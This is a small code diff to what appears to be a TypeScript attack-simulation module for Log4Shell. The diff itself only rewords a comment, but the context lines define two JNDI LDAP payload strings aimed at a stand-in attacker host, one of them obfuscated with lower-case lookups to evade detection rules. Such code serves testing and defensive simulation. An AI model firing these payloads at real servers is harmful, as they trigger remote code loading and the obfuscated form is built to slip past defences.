@@ -4,7 +4,7 @@ import type {Scene} from './scene.ts';
 import {webAttack} from './web-attack.ts';
 
 const LOOKUP = `\${jndi:ldap://${attacker(80)}:1389/a}`;
-/** The same, hidden from those who look for it letter by letter. */
+/** The same lookup, obfuscated against rules that match the plain text. */
 const HIDDEN_LOOKUP = `\${\${lower:j}ndi:\${lower:l}dap://${attacker(81)}:1389/b}`;
 
 export const log4shell = {
